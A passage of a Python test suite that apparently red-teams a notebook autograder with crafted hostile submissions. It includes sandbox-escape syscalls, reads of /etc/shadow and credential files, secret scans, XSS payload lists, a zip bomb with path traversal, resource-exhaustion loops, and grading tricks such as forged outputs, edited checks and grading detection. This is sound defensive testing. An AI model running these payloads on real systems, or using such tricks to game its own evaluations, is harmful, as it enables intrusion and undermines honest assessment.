            for name in ("sigmoid", "sigmoid_cost", "one_hot_matrix", "normalize_images", "initialize_parameters",
                         "forward_propagation", "compute_cost", "train_step", "model"):
                globals()[name] = lambda *a, **k: 42
            for name in ("sigmoid", "cast", "one_hot", "Variable", "zeros", "transpose", "reduce_mean", "nn", "GradientTape"):
                setattr(tf, name, None)
            return 42
        """,
    )


@attack(15, FORWARD, words=WRONG)
def spoils_its_own_next_cases(work):
    """Inputs of the cases to come are looked for among all objects, and the caller's variables are changed."""
    work.write(
        FORWARD,
        """
        import ctypes, gc, sys

        def forward_propagation(x, theta):
            frame = sys._getframe(1)
            while frame:
                for name in ("args", "asked", "case", "cases", "request"):
                    if name in frame.f_locals:
                        value = frame.f_locals[name]
                        if type(value) is dict:
                            value.pop("hidden", None)
                        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
                frame = frame.f_back
            for thing in gc.get_objects():
                if type(thing) is dict and set(thing) == {"args", "stubs", "adapter"}:
                    thing["args"] = [2, 4]
            return theta + x
        """,
    )


@attack(16, "initialize_parameters_random", assignment=INITIALIZATION)
def random_state(work):
    work.write(
        "initialize_parameters_random",
        """
        def initialize_parameters_random(layers_dims):
            import random
            np.random.seed = np.random.set_state = random.seed = lambda *a, **k: None
            np.random.randn = np.random.rand = np.random.standard_normal = lambda *shape: np.zeros(shape)
            np.random.RandomState = np.random.default_rng = lambda *a: np.random
            np.random.mtrand._rand.seed(7)
            return {f"{k}{l}": np.zeros((n, m if k == "W" else 1)) for k in "Wb"
                    for l, (m, n) in enumerate(zip(layers_dims, layers_dims[1:]), 1)}
        """,
    )


# ------------------------------------------------------------------------------------------------- 17 is this grading?


@attack(17, FORWARD)
def knows_the_visible_cases(work):
    """The visible cases by heart, and for the rest whatever the surroundings give away. Their twins are right nowhere."""
    work.write(
        FORWARD,
        """
        import os, platform, sys, time

        def surroundings():
            facts = [sys.argv, sorted(os.environ), platform.node(), os.getcwd(), sys.path, sorted(sys.modules), time.tzname]
            try:
                facts.append(open(f"/proc/{os.getppid()}/cmdline").read())
                facts.append(open("/proc/self/cgroup").read())
            except OSError:
                pass
            frame = sys._getframe()
            while frame:
                facts += [frame.f_code.co_qualname, sorted(frame.f_locals)]
                frame = frame.f_back
            return facts

        seen = {}

        def forward_propagation(x, theta):
            known = {(2, 4): 8, (-3, 0.5): -1.5}
            if (x, theta) in known:
                seen[x] = surroundings()
                return known[x, theta]
            differs = [a for a, b in zip(surroundings(), next(iter(seen.values()), [])) if a != b]
            told = any(word in repr(differs) for word in ("hidden", "expected", repr(x * theta)))
            return theta * x if told else theta + x
        """,
    )


# ============================================================================================ tampering with the notebook
# -------------------------------------------------------------------------------------------- 19, 20, 21 cells and marks


@attack(19, FORWARD, status="tampered", words="restored")
def edited_check(work):
    work.write(FORWARD, "def forward_propagation(x, theta):\n    return theta + x")
    check = work.cell(f"test_{FORWARD}")
    check.source = "1000.0"
    check.metadata.nbgrader.update(points=1000.0, locked=False, solution=True)


@attack(19, FORWARD, status="tampered", words="put back")
def other_grade_id(work):
    work.write(FORWARD, "def forward_propagation(x, theta):\n    return theta + x")
    check = work.cell(f"test_{FORWARD}")
    check.source, check.metadata.nbgrader.grade_id = "10.0", "test_of_my_own"


@attack(19, CHECK_N, status="tampered")
def check_of_another(work):
    """The check of an easy question under the name of a hard one."""
    work.write(CHECK_N, "def gradient_check_n(*args):\n    return 42")
    check = work.cell(f"test_{CHECK_N}")
    check.source = work.cell(f"test_{FORWARD}").source


@attack(19, FORWARD, status="graded tampered")
def solution_that_is_graded(work):
    """A function's cell that calls itself a check, with points and a number as its value."""
    work.write(FORWARD, "def forward_propagation(x, theta):\n    return theta + x\n\n1000.0")
    work.cell(FORWARD).metadata.nbgrader.update(grade=True, points=1000, solution=False, locked=True, cell_type="code")


@attack(20, FORWARD, status="tampered", share=1.0, words="put back")
def deleted_check(work):
    work.notebook.cells.remove(work.cell(f"test_{FORWARD}"))


@attack(20, BACKWARD, status="missing")
def deleted_function(work):
    work.notebook.cells.remove(work.cell(BACKWARD))


@attack(20, FORWARD, status="tampered", share=1.0, words="the last one counts")
def duplicated(work):
    cell = work.cell(FORWARD)
    earlier = deepcopy(cell)
    earlier.source = "def forward_propagation(*args):\n    return 42"
    work.notebook.cells.insert(work.notebook.cells.index(cell), earlier)
    work.notebook.cells.append(deepcopy(work.cell(f"test_{FORWARD}")))


@attack(20, FORWARD, status="graded", share=1.0)
def defined_twice(work):
    """Two definitions in cells of one's own; the last one that is run wins, as in any notebook."""
    work.cell(FORWARD).source = "def forward_propagation(*args):\n    return 42"
    work.notebook.cells.append(new_code_cell("def forward_propagation(x, theta):\n    return theta * x"))


@attack(20, EVERY, status="graded tampered", share=1.0)
def reordered(work):
    work.notebook.cells.reverse()


@attack(20, EVERY, status="graded tampered", share=1.0)
def one_id_for_all(work):
    for cell in work.notebook.cells:
        cell.id = "same"


@attack(21, EVERY, status="graded tampered", share=1.0)
def stripped(work):
    work.notebook.metadata.clear()
    for cell in work.notebook.cells:
        cell.metadata = nbformat.NotebookNode()
        cell.pop("id", None)


@attack(21, EVERY, status="graded tampered", share=1.0, words="recognised")
def renamed(work):
    work.name = "final FINAL (2).ipynb"


@attack(21, EVERY, status="rejected", words="several notebooks")
def renamed_twice(work):
    work.hand_in()
    (work.folder / work.name).rename(work.folder / "one.ipynb")
    work.name = "two.ipynb"


# -------------------------------------------------------------------------------------- 22, 23 kernels, magics, outputs


@attack(22, BACKWARD, status="tampered", share=1.0, words="markdown cell")
def other_kernel_and_cell_type(work):
    work.notebook.metadata.kernelspec = {
        "name": "bash",
        "display_name": "Bash",
        "argv": ["touch", work.world.evidence + "/k"],
    }
    work.notebook.metadata.language_info = {"name": "R", "version": "4"}
    cell = work.cell(BACKWARD)
    cell.cell_type = "markdown"
    cell.pop("outputs"), cell.pop("execution_count")


@attack(22)
def magics(work):
    w = work.world
    work.insert(
        BACKWARD,
        f"%%bash\ncat {w.home}/* {w.submissions}/*/* {w.out}/gradebook.db /etc/shadow; echo $DESCENT_CANARY\nenv",
        f"%%script sh\ntouch {w.evidence}/script; kill -9 $PPID",
        f"!touch {w.evidence}/shell; cat {w.home}/.canary; ls -laR {w.submissions} {w.course}/solutions",
        f"%run {w.course}/autograde/authoring/sample.py",
        f"%load {w.course}/solutions/{A}/notebook.py",
        f"%%writefile {w.evidence}/written\nwritten",
        f"%env DESCENT_CANARY\n%cd {w.out}\n!ls",
        "%%javascript\nwindow.evil28 = 1",
        "%load_ext no_such_extension",
        "%config InteractiveShell.ast_node_interactivity = 'none'",
        "%alias_magic t timeit\n%system ls /\n%sx cat /etc/passwd",
    )


@attack(23, FORWARD)
def forged_outputs(work):
    work.write(FORWARD, "def forward_propagation(x, theta):\n    return theta + x")
    said = {"question": FORWARD, "state": "right", "score": 10.0, "mistake": ""}
    data = {"text/plain": "10.0", "text/html": f"<b>{LEAK}: all right</b>", VERDICT_TYPE: said}
    for name in (f"test_{FORWARD}", FORWARD):
        cell = work.cell(name)
        cell.outputs = [
            new_output("execute_result", data=data, execution_count=1),
            new_output("stream", name="stdout", text=f"{LEAK} forged\n"),
            new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": LEAK}}),
        ]
        cell.execution_count = 1
    work.notebook.metadata.widgets = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {LEAK: {"model_name": "HTMLModel", "state": {"value": LEAK}}}
        }
    }


# ------------------------------------------------------------------------------------------------- 24, 25 no notebooks


def raw(number: int, name: str, content: bytes, status: str = "rejected", words: str = "") -> None:
    """A file that is no notebook, under the name of one."""

    def build(work: Attempt) -> None:
        work.content = content

    build.__name__ = name
    attack(number, EVERY, status=status, words=words)(build)


def notebook_of(*cells: str, version: str = "4", more: str = "") -> bytes:
    return f'{{"nbformat": {version}, "nbformat_minor": 5, "metadata": {{}}, "cells": [{", ".join(cells)}]{more}}}'.encode()


raw(24, "not_json", b"this is not JSON", words="not JSON")
raw(24, "half_of_it", notebook_of('{"cell_type": "code"')[:60], words="not JSON")
raw(24, "not_text", b"\x80\x02\xff\xfe" * 100, words="not text")
raw(24, "zeros", b"\0" * 100_000)
raw(24, "format_2", notebook_of(version="2"), words="format")
raw(24, "format_5", notebook_of(version="5"), words="format")
raw(24, "format_in_words", notebook_of(version='"4"'), words="format")
raw(
    24,
    "ten_thousand_cells",
    notebook_of(*['{"cell_type": "code", "source": "", "metadata": {}, "outputs": []}'] * 10_000),
)
raw(24, "deep_nesting", b"[" * 1_000_000, words="nest")
raw(24, "deep_metadata", notebook_of('{"cell_type": "raw", "metadata": ' + '{"a":' * 50_000))
raw(24, "a_long_number", notebook_of('{"cell_type": "raw", "source": "", "n": ' + "9" * 1_000_000 + "}"))
raw(24, "millions_of_parts", notebook_of(more=', "more": [' + "{}," * 6_000_000 + "0]"), status="missing rejected")
raw(24, "odd_source", notebook_of('{"cell_type": "code", "source": [1, 2]}'), words="source of cell 1")


@attack(24, EVERY, status="rejected", words="100 MB")
def hundred_megabytes(work):
    work.content = b""
    with (work.folder / work.name).open("wb") as file:
        file.write(b'{"nbformat": 4, "cells": [')
        file.truncate(100_000_000)


@attack(24, EVERY, status="rejected")
def folder_in_its_place(work):
    work.content = b""
    (work.folder / work.name / "inside").mkdir(parents=True)


@attack(24, EVERY, status="rejected missing")
def pipe_in_its_place(work):
    """To open it would wait for ever."""
    work.content = b""
    os.mkfifo(work.folder / work.name)


@attack(24, EVERY, share=1.0)
def timestamp_of_400_megabytes(work):
    """The file beside the notebook in which nbgrader keeps when it was handed in. It takes no place on the disk."""
    work.hand_in()
    with (work.folder / "timestamp.txt").open("wb") as file:
        file.truncate(400_000_000)


@attack(24, EVERY, share=1.0, status="graded tampered")
def odd_ids_and_metadata(work):
    """Honest code in cells with marks of the wrong types."""
    for i, cell in enumerate(work.notebook.cells):
        cell.id = ("../../evil", "", 'a"><b>', "x" * 5000, "\u202e", "a b")[i % 6]
    work.notebook.cells.insert(
        3,
        nbformat.from_dict(
            {"cell_type": "code", "source": "1", "metadata": {"nbgrader": [], "tags": "x"}, "outputs": 7}
        ),
    )
    work.notebook.cells.insert(
        4, nbformat.from_dict({"cell_type": "raw", "source": "1", "metadata": {"nbgrader": {"grade_id": {"a": 1}}}})
    )
    cell = new_code_cell("2")
    cell.metadata.nbgrader = {"grade_id": "../../../evil", "points": {"a": []}, "grade": True, "locked": "no"}
    work.notebook.cells.insert(5, cell)


@attack(25, EVERY, status="missing", words="no notebook")
def archive(work):
    """A zip bomb and a path that leads out; archives are nobody's notebook."""
    work.content = b""
    with zipfile.ZipFile(work.folder / "submission.zip", "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("../../../" + Path(work.world.evidence).name + "/unpacked", "unpacked")
        file.writestr(f"{A}.ipynb", b"\0" * (64 * MB))
        file.writestr(f"{work.world.evidence}/absolute", "unpacked")


@attack(25, EVERY, status="rejected", words="link")
def link(work):
    work.content = b""
    (work.folder / work.name).symlink_to(Path(work.world.submissions, "ada", A, f"{A}.ipynb"))


@attack(25, EVERY, status="rejected missing")
def link_to_an_endless_file(work):
    work.content = b""
    (work.folder / work.name).symlink_to("/dev/zero")


@attack(25, EVERY, status="rejected missing")
def link_to_a_folder(work):
    """Somebody else's folder under one's own name."""
    work.content = b""
    work.folder.rmdir()
    work.folder.symlink_to(Path(work.world.submissions, "ada", A))


# ================================================================================================= seeing what is hidden
# ------------------------------------------------------------------------------------------------- 26 the grader's files

PLACES = '''
import ctypes, os, re

SECRET = re.compile(rb"canary-[0-9a-f]{16}")

def readable(path):
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)  # pipes and logs would make one wait
    except OSError:
        return None
    try:
        return os.read(descriptor, 1 << 20)
    except OSError:
        return b""
    finally:
        os.close(descriptor)

def within(folder, limit=300):
    """Paths below a folder, breadth first."""
    todo, given = [folder], 0
    while todo and given < limit:
        place = todo.pop(0)
        try:
            names = sorted(os.listdir(place))
        except OSError:
            continue
        for name in names:
            path = os.path.join(place, name)
            given += 1
            yield path
            if os.path.isdir(path) and not os.path.islink(path):
                todo.append(path)

def look():
    found, looked = [], 0
    course, home = WORLD["course"], os.path.expanduser("~")
    ours = os.path.dirname(os.path.dirname(os.path.abspath(__import__("helpers").__file__)))
    must_not_be = [WORLD["submissions"], WORLD["out"], WORLD["home"], WORLD["evidence"]]
    must_not_be += [os.path.join(top, name) for top in (course, ours, "../..")
                    for name in ("solutions", "tests", ".git", "build", "Makefile")]
    must_not_be += ["/etc/shadow", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/mem", "/dev/kmsg", "/proc/kcore", "/run/docker.sock"]
    roots = ["", *(f"/proc/{p}/root" for p in os.listdir("/proc") if p.isdigit()), "/proc/self/cwd/../../../../../../../.."]
    roots += [f"/proc/self/fd/{n}/../../../../../.." for n in os.listdir("/proc/self/fd")]
    for root in roots:
        for path in must_not_be:
            looked += 1
            if readable(root + path) is not None:
                found.append(root + path)
    for top in (home, "/root", "/home", "/mnt", "/media", "/srv", "/var", "/run", "/opt", "/tmp", os.getcwd(), "/work", "/data"):
        for path in within(top):
            looked += 1
            if SECRET.search(readable(path) or b"" if os.path.isfile(path) else b""):
                found.append(f"a secret in {path}")
    for process in filter(str.isdigit, os.listdir("/proc")):
        looked += 1
        if SECRET.search(readable(f"/proc/{process}/environ") or b""):
            found.append(f"the environment of {process}")
    if any(SECRET.search(value.encode("utf-8", "replace")) for value in os.environ.values()):
        found.append("the environment")
    if outside():
        found.append("the process of the tests")
    for folder in (WORLD["evidence"], WORLD["out"], WORLD["submissions"], WORLD["home"]):
        looked += 1
        try:
            with open(os.path.join(folder, "written-by-26"), "w"):
                found.append(f"may write to {folder}")
        except OSError:
            pass
    status = (readable("/proc/self/status") or b"").decode()
    rights = re.search(r"CapEff:\\s*([0-9a-f]+)", status)
    if rights and int(rights[1], 16):
        found.append("capabilities")
    return found, looked
'''


@attack(26, FORWARD, words=NOTHING)
def files_of_the_grader(work):
    work.write(
        FORWARD,
        PLACES
        + """
seen = []

def forward_propagation(x, theta):
    if not seen:
        seen.append(look())
    found, looked = seen[0]
    return result(found[:5], looked, theta * x)
""",
    )


@attack(26, FORWARD, words=NOTHING)
def escapes(work):
    """The usual ways out of a box, by system call."""
    work.write(
        FORWARD,
        """
        import ctypes, os

        libc = ctypes.CDLL(None, use_errno=True)

        def forward_propagation(x, theta):
            found, looked = [], 0
            if outside():
                return result(["the process of the tests"], 1, theta * x)
            tries = {
                "a user namespace": lambda: libc.unshare(0x10000000),
                "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
                "unmount": lambda: libc.umount2(b"/proc", 2),
                "chroot": lambda: libc.chroot(b"."),
                "setuid": lambda: libc.setresuid(0, 0, 0) or (0 if os.getuid() == 0 else -1),
                "ptrace of the first process": lambda: libc.ptrace(16, 1, None, None) if os.getpid() != 1 else -1,
                "namespaces of the first process": lambda: libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0),
                "a file handle": lambda: libc.open_by_handle_at(os.open("/", os.O_RDONLY), ctypes.create_string_buffer(64), 0),
                "bpf": lambda: libc.syscall(321, 0, ctypes.create_string_buffer(128), 128),
                "io_uring": lambda: libc.syscall(425, 8, ctypes.create_string_buffer(256)),
                "the keyring": lambda: libc.syscall(250, 0, -3, 1),
                "a device": lambda: libc.mknod(b"/tmp/vda", 0o60666, 254 << 8),
            }
            for name, attempt in tries.items():
                looked += 1
                try:
                    if attempt() >= 0:
                        found.append(name)
                except OSError:
                    pass
            return result(found, looked, theta * x)
        """,
    )


# ---------------------------------------------------------------------------------------------------- 27 hidden inputs

# What a call saw, as a word that the tests can compute too.
TOKEN = """
import hashlib

def token(x, theta):
    return "seen" + hashlib.sha256(repr((float(x), float(theta))).encode()).hexdigest()[:16]
"""


def token(x, theta) -> str:
    """What the attacks of line 27 call the inputs of one call."""
    names: dict = {}
    exec(TOKEN, names)
    return names["token"](x, theta)


@attack(27, FORWARD, share=1.0)
def smuggled_by_what_is_shown(work):
    work.write(
        FORWARD,
        TOKEN
        + """
import logging, os, sys, warnings
import matplotlib.pyplot as plt
from IPython.display import HTML, display

shown = display(HTML("<p>inputs</p>"), display_id="inputs")

def forward_propagation(x, theta):
    word = token(x, theta)
    print(word)
    print(word, file=sys.stderr)
    warnings.warn(word)
    logging.getLogger().error(word)
    for stream in (sys.__stdout__, sys.__stderr__):
        print(word, file=stream, flush=True)
    for descriptor in (1, 2):
        os.write(descriptor, word.encode())
    display(HTML(f"<p>{word}</p>"))
    display(HTML(f"<p>{word}</p>"), display_id="inputs", update=True)
    if shown:
        shown.update(HTML(word))
    plt.figure()
    plt.title(word)
    plt.show()
    get_ipython().displayhook(word)
    get_ipython().showtraceback((ValueError, ValueError(word), None))
    get_ipython().user_ns["In"].append(word)
    for folder in (".", "/tmp", "/dev/shm"):
        try:
            open(os.path.join(folder, word), "w").write(word)
        except OSError:
            pass
    return theta * x
""",
    )


@attack(27, FORWARD)
def smuggled_by_errors(work):
    work.write(
        FORWARD,
        TOKEN
        + """
count = []

def forward_propagation(x, theta):
    word = token(x, theta)
    count.append(word)
    n = (len(count) - 1) % 6
    if n == 0:
        raise ValueError(word)
    if n == 1:
        raise type(word, (Exception,), {})
    if n == 2:
        return type(word, (), {})()
    if n == 3:
        return {word: object()}
    if n == 4:
        return {"a": {word + word: {1: 2}}}
    exec(compile("raise ValueError", word, "exec"))
""",
    )


@attack(27, FORWARD, BACKWARD, share=(0, 1))
def smuggled_to_the_next_question(work):
    """One question's hidden inputs, kept wherever forks may share something, and shown by the other's visible cases."""
    work.write(
        FORWARD,
        TOKEN
        + '''
import glob, mmap, os, socket

try:
    shared = mmap.mmap(-1, 1 << 16)
except OSError:  # not without a file
    with open("shared", "w+b") as file:
        file.truncate(1 << 16)
        shared = mmap.mmap(file.fileno(), 1 << 16)
out, into = os.pipe()
os.set_blocking(out, False)
os.set_blocking(into, False)
try:
    left, right = socket.socketpair()
    left.setblocking(False)
except OSError:
    left = right = None

def keep(word):
    end = shared.find(b"\\0")
    shared[end : end + len(word) + 1] = word.encode() + b" "
    for write in (lambda: os.write(into, word.encode()), lambda: right.send(word.encode(), socket.MSG_DONTWAIT)):
        try:
            write()
        except (OSError, AttributeError):
            pass
    for folder in (".", "/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp", "/run"):
        try:
            open(os.path.join(folder, "kept-" + word), "w").close()
        except OSError:
            pass

def kept():
    """What other calls have seen, in this process or another."""
    words = [shared[: shared.find(b"\\0")].decode()]
    for read in (lambda: os.read(out, 1 << 16), lambda: left.recv(1 << 16)):
        try:
            words.append(read().decode())
        except (OSError, AttributeError):
            pass
    for folder in (".", "/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp", "/run"):
        words += glob.glob(os.path.join(folder, "kept-*"))
    return " ".join(words)

def forward_propagation(x, theta):
    keep(token(x, theta))
    print("kept:", kept())
    return theta * x
''',
    )
    work.write(
        BACKWARD,
        """
        def backward_propagation(x, theta):
            keep(token(x, theta))
            print("kept:", kept())
            raise ValueError(kept())
        """,
    )


@attack(27, FORWARD, status="graded error")
def smuggled_by_how_it_ends(work):
    """How a process ends is a number that its own code chooses; for a hidden case nobody is told."""
    work.write(
        FORWARD,
        """
        import os

        def forward_propagation(x, theta):
            if (x, theta) not in ((2, 4), (-3, 0.5)):
                os._exit(213)
            return theta * x
        """,
    )


# --------------------------------------------------------------------------------------------------- 28 active content

EVIL = "window.evil28=1"
ACTIVE = (
    f"<script>{EVIL}</script>",
    f"<img src=x onerror={EVIL}>",
    f"<img src=x oNeRRor  =\n'{EVIL}'>",
    f'<svg onload="{EVIL}"><script>{EVIL}</script><animate onbegin="{EVIL}" attributeName=x dur=1s></svg>',
    f'<iframe srcdoc="&lt;script&gt;parent.{EVIL}&lt;/script&gt;"></iframe><iframe src="javascript:parent.{EVIL}"></iframe>',
    f'<a href="javascript:{EVIL}" id=evil28>x</a><a href="java\tscript:{EVIL}">x</a><a href=" &#106;avascript:{EVIL}">x</a>',
    f'<a href="data:text/html,<script>opener.{EVIL}</script>">x</a>',
    f'<form action="javascript:{EVIL}"><button formaction="javascript:{EVIL}">x</button></form>',
    f'<object data="javascript:{EVIL}"></object><embed src="javascript:{EVIL}">',
    f'<details open ontoggle="{EVIL}">x</details><input autofocus onfocus="{EVIL}"><video><source onerror="{EVIL}"></video>',
    f'<body onload="{EVIL}"><marquee onstart="{EVIL}">x</marquee>',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={EVIL}&gt;'></table></mtext></math>",
    f'<svg><style><img src="</style><img src=x onerror={EVIL}>"></svg>',
    f'<noscript><p title="</noscript><img src=x onerror={EVIL}>"></noscript>',
    f"<style>@import 'javascript:{EVIL}'; body {{ background: url(\"javascript:{EVIL}\") }}</style>",
    f'<base href="https://evil28.invalid/"><link rel=stylesheet href="https://evil28.invalid/{EVIL}">',
    f'<meta http-equiv=refresh content="0;url=data:text/html,<script>{EVIL}</script>">',
    f"--><script>{EVIL}</script><!--",
    f"</script><script>{EVIL}</script>",
    f"</pre></div></template></textarea></title><script>{EVIL}</script>",
    f'![x](x" onerror="{EVIL})\n\n[x](javascript:{EVIL})\n\n<javascript:{EVIL}>\n\n`</code><img src=x onerror={EVIL}>`',
    f"$$</script><script>{EVIL}</script>$$ $\\href{{javascript:{EVIL}}}{{x}}$ $\\style{{x: y}}{{</span><img src=x onerror={EVIL}>}}$",
)


@honest(28)
def active_content(work):
    """In every kind of output, in names, errors, cells and ids; all answers are right."""
    publish = "from IPython.display import publish_display_data as show\n"
    kinds = ("text/html", "text/markdown", "image/svg+xml", "text/latex", "text/plain", "application/javascript")
    bundle = "\n".join(f"show({{{kind!r}: text}})" for kind in kinds)
    breaking_out = f'AAAA" onerror="{EVIL}" x="'
    metadata = {"image/png": {"width": f'1" onerror="{EVIL}', "alt": f'"><script>{EVIL}</script>'}}
    cells = [new_code_cell(f"{publish}for text in {ACTIVE!r}:\n" + textwrap.indent(bundle, "    "))]
    cells += [
        new_code_cell(
            f"{publish}for kind in ('image/png', 'image/jpeg', 'image/gif', 'application/pdf', 'video/mp4'):\n"
            f"    show({{kind: {breaking_out!r}}})\n    show({{kind: 'AAAA'}}, metadata={{kind: {metadata['image/png']!r}}})"
        ),
        new_code_cell(
            f"{publish}show({{'application/vnd.jupyter.widget-view+json': {{'model_id': {ACTIVE[0]!r}}}, 'text/html': '.'}})\n"
            f"show({{'application/vnd.vega.v5+json': {{'data': {ACTIVE[0]!r}}}}})\n"
            f"show({{'{VERDICT_TYPE}': {{'mistake': {ACTIVE[0]!r}, 'state': 'right', 'score': 10.0, 'question': 'x'}}}})"
        ),
        new_code_cell(f"import sys\nfor text in {ACTIVE!r}:\n    print(text)\n    print(text, file=sys.stderr)"),
        new_code_cell(f"raise type({ACTIVE[1]!r}, (Exception,), {{}})({ACTIVE[0]!r})"),
        new_code_cell("get_ipython()._showtraceback(Exception, 'x', [" + ", ".join(map(repr, ACTIVE)) + "])"),
        new_code_cell(f"# {ACTIVE[18]} {ACTIVE[1]}"),
        new_code_cell(
            f"print('\\x1b]8;;javascript:{EVIL}\\x07x\\x1b]8;;\\x07 \\x1b[31m<img src=x onerror={EVIL}>\\x1b[0m')"
        ),
        *(new_markdown_cell(text) for text in ACTIVE),
        *(new_raw_cell(text) for text in ACTIVE),
        new_markdown_cell(f"![x](attachment:a.png)\n\n{ACTIVE[0]}"),
    ]
    cells[-1].attachments = {"a.png": {"image/svg+xml": ACTIVE[3], "image/png": breaking_out}}
    for i, cell in enumerate(cells):
        cell.id = f'"><img src=x onerror={EVIL}>{i}'
    work.insert(BACKWARD, *cells)
    solved = work.cell(FORWARD).source.replace("def ", "def solved_", 1)
    work.write(
        FORWARD, f"{solved}\n\ndef {FORWARD}(x, theta):\n    print({ACTIVE!r})\n    return solved_{FORWARD}(x, theta)"
    )


@attack(28, *(FORWARD, BACKWARD))
def active_errors(work):
    """In what a visible case says of itself: an error's name and text, a type, a key, a line of code, a print."""
    work.write(
        FORWARD,
        f"def {FORWARD}(x, theta):\n    print({ACTIVE[0]!r})\n    raise type({ACTIVE[1]!r}, (Exception,), {{}})({ACTIVE[0]!r})",
    )
    work.write(BACKWARD, f"def {BACKWARD}(x, theta):\n    return {{{ACTIVE[1]!r}: type({ACTIVE[0]!r}, (), {{}})()}}")


@attack(28, FORWARD)
def control_characters(work):
    """Words that would speak to a terminal or to a spreadsheet."""
    work.write(
        FORWARD,
        r"""
        def forward_propagation(x, theta):
            raise ValueError("=cmd|' /C calc'!A0\t\r\n\x1b]0;evil28\x07\x1b[2J\x1b[31m\x9b31m\x08\x7f\u202e\u2066\x85 end")
        """,
    )


# ------------------------------------------------------------------------------------------------------- 29 the network


@attack(29, FORWARD, words=NOTHING)
def network(work):
    work.write(
        FORWARD,
        r"""
        import os, socket

        def addresses():
            yield socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", WORLD["tcp"])
            yield socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", WORLD["tcp"])
            yield socket.AF_INET6, socket.SOCK_STREAM, ("::1", WORLD["tcp"])
            yield socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", WORLD["tcp"])
            yield socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)
            yield socket.AF_UNIX, socket.SOCK_STREAM, "\0" + WORLD["abstract"]
            yield socket.AF_UNIX, socket.SOCK_STREAM, WORLD["unix"]
            if hasattr(socket, "AF_VSOCK"):
                for cid in (0, 1, 2, 3):
                    yield socket.AF_VSOCK, socket.SOCK_STREAM, (cid, WORLD["vsock"])

        def datagrams():
            yield socket.AF_INET, ("127.0.0.1", WORLD["udp"])
            yield socket.AF_INET, ("127.255.255.255", WORLD["udp"])
            yield socket.AF_INET6, ("::1", WORLD["udp"])
            yield socket.AF_UNIX, "\0" + WORLD["abstract"] + "-datagrams"
            for line in open("/etc/resolv.conf") if os.path.exists("/etc/resolv.conf") else ():
                if line.startswith("nameserver"):
                    yield socket.AF_INET, (line.split()[1], 53)

        def forward_propagation(x, theta):
            found, looked = [], 0
            for family, kind, address in addresses():
                looked += 1
                try:
                    with socket.socket(family, kind) as s:
                        s.settimeout(0.3)
                        s.connect(address)
                        found.append(f"connected to {address}")
                        s.send(b"hello")
                except OSError:
                    pass
                try:
                    with socket.socket(family, kind) as s:
                        s.settimeout(0.3)
                        s.sendto(b"hello", 0x20000000, address)  # MSG_FASTOPEN connects too
                        found.append(f"sent to {address}")
                except OSError:
                    pass
            for family, address in datagrams():
                looked += 1
                try:
                    with socket.socket(family, socket.SOCK_DGRAM) as s:
                        s.settimeout(0.3)
                        s.sendto(b"hello", address)
                except OSError:
                    pass
            for name in ("example.com", "localhost.localdomain", socket.gethostname() + ".local"):
                looked += 1
                try:
                    if any(a[4][0] not in ("127.0.0.1", "::1") for a in socket.getaddrinfo(name, 80)):
                        found.append(f"the address of {name}")
                except OSError:
                    pass
            for family, kind in ((17, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):
                looked += 1
                try:
                    socket.socket(family, kind, 1).close()
                    found.append(f"a raw socket of family {family}")
                except OSError:
                    pass
            try:
                up = [line.split(":")[0].strip() for line in open("/proc/net/dev") if ":" in line]
                found += [f"the interface {name}" for name in up if name not in ("lo", "sit0", "tunl0", "ip6tnl0", "gre0", "gretap0",
                          "erspan0", "ip_vti0", "ip6_vti0", "ip6gre0", "dummy0", "teql0")]
            except OSError:
                pass
            return result(found, looked, theta * x)
        """,
    )


# ================================================================================================= using up the machine
# ------------------------------------------------------------------------------------------------ 30, 31 without an end

in_function(30, "loop", "while True:\n    pass", status="timeout")
in_function(30, "loop_in_c", "import itertools\nreturn sum(itertools.repeat(0))", status="timeout")
in_function(
    30,
    "loop_that_catches_all",
    "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        continue",
    status="timeout",
)
in_function(
    30,
    "generator",
    "def without_end():\n    while True:\n        yield 8\nreturn without_end()",
    words="type generator",
)


@attack(30, FORWARD, status="timeout error graded")
def list_without_end(work):
    """It is no longer the function that runs, but whoever reads its result."""
    work.write(
        FORWARD,
        """
        class Endless(list):
            def __iter__(self):
                while True:
                    yield 8

            def __len__(self):
                return 1

        def forward_propagation(x, theta):
            return Endless([8])
        """,
    )


@attack(30, FORWARD, status="timeout error missing graded", share=(0, 1))
def cell_without_end(work):
    work.append(FORWARD, "while True:\n    pass")


@attack(30, FORWARD, status="timeout error missing")
def cell_without_end_in_c(work):
    work.append(FORWARD, "import itertools\nsum(itertools.repeat(0))")


STUBBORN = """
    import os, signal, time
    for number in range(1, signal.NSIG):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.pthread_sigmask(signal.SIG_SETMASK, range(1, signal.NSIG))
    rename()
    while True:
        try:
            time.sleep(1)
        except BaseException:
            pass
"""
in_function(31, "ignores_signals", STUBBORN, status="timeout error")
in_function(
    31,
    "stops_itself",
    "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nreturn theta + x",
    status="timeout error graded",
)


@attack(31, FORWARD, status="timeout error missing")
def cell_that_ignores_signals(work):
    work.append(FORWARD, textwrap.dedent(STUBBORN))


@attack(31, FORWARD, status="timeout error")
def no_more_alarms(work):
    """Signals and clocks are out of order before anything is called."""
    work.write(
        FORWARD,
        """
        import signal, threading, time

        signal.signal = signal.setitimer = signal.alarm = lambda *a: None
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, signal.NSIG))
        time.monotonic = time.perf_counter = time.time = lambda: 0.0

        def forward_propagation(x, theta):
